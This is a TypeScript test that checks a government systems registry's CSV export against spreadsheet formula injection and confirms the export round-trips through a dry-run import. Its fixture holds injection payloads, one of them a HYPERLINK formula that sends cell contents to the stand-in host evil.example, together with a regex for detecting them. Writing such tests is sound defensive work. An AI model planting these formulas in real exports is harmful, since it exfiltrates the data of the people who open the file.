import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { createTestApp, TestApp } from './support/test-app';

/**
 * Issue 16, point 10: a CSV export never hands Excel a formula, in no part of a cell that Excel may split on ",", ";"
 * (the Vietnamese list separator) or tab, and the export imports back with the same values.
 */
describe('CSV exports are formula-safe per field', () => {
  let t: TestApp;
  let officer: string;
  const as = (token: string) => ({ authorization: `Bearer ${token}` });
  const binary = (res: request.Response, cb: (err: Error | null, body: Buffer) => void) => {
    const chunks: Buffer[] = [];
    res.on('data', (c: Buffer) => chunks.push(c));
    res.on('end', () => cb(null, Buffer.concat(chunks)));
  };
  const NAMES = ['=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")', 'a;=1+1', 'x,@SUM(1)', '-Cổng dịch vụ\t+84 đường dây nóng'];
  const DESCRIPTION = "Ghi chú; -2+3, '@đã có dấu nháy";

  beforeAll(async () => {
    t = await createTestApp();
    officer = await t.login('canbo.sl-so-xd');
    const [{ id: owner }] = await t.db.query(`SELECT id FROM agencies WHERE code = 'SL-SO-XD'`);
    for (const [i, name] of NAMES.entries()) {
      await t
        .http()
        .post('/api/v1/systems')
        .set(as(officer))
        .send({
          code: `CSV-${i}`,
          name,
          ownerAgencyId: owner,
          systemType: 'INTERNAL',
          infoTypes: ['PRIVATE'],
          lifecycle: 'IN_OPERATION',
          goLiveDate: '2021-05-01',
          hosting: 'PROVINCIAL_DC',
          internetFacing: false,
          userCount: 120,
          description: DESCRIPTION,
        })
        .expect(201);
    }
  });
  afterAll(() => t.close());

  it('marks every part Excel could run, keeps counts numbers, and imports back with the same values (dry run)', async () => {
    const res = await t.http().get('/api/v1/systems/export?format=csv').set(as(officer)).buffer(true).parse(binary).expect(200);
    const text = (res.body as Buffer).toString('utf8');
    const [header, ...rows] = parse(text.replace(/^\uFEFF/, ''), { delimiter: ',', relax_column_count: true }) as string[][];
    const column = (title: string) => header.indexOf(title);
    const ours = rows
      .filter((r) => r[column('Mã hệ thống')].startsWith('CSV-'))
      .sort((a, b) => a[column('Mã hệ thống')].localeCompare(b[column('Mã hệ thống')]));
    expect(ours.map((r) => r[column('Tên hệ thống')])).toEqual([
      `'=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")`,
      "a;'=1+1",
      "x,'@SUM(1)",
      "'-Cổng dịch vụ\t'+84 đường dây nóng",
    ]);
    expect(ours.map((r) => r[column('Mô tả')])).toEqual(NAMES.map(() => "Ghi chú; '-2+3, ''@đã có dấu nháy"));
    expect(ours.map((r) => r[column('Số người sử dụng')])).toEqual(NAMES.map(() => '120'));
    // No cell, cut anywhere Excel may cut it, starts a formula.
    for (const cell of rows.flat()) for (const part of cell.split(/[,;\t\r\n]/)) expect(part).not.toMatch(/^\s*[=+\-@]/);

    const dryRun = await t
      .http()
      .post('/api/v1/systems/import?dryRun=true')
      .set(as(officer))
      .attach('file', res.body, 'he-thong.csv')
      .expect(200);
    expect(dryRun.body).toMatchObject({ dryRun: true, created: 0, updated: 0, errors: [] });
    expect(dryRun.body.unchanged).toBe(rows.length);
  });
});
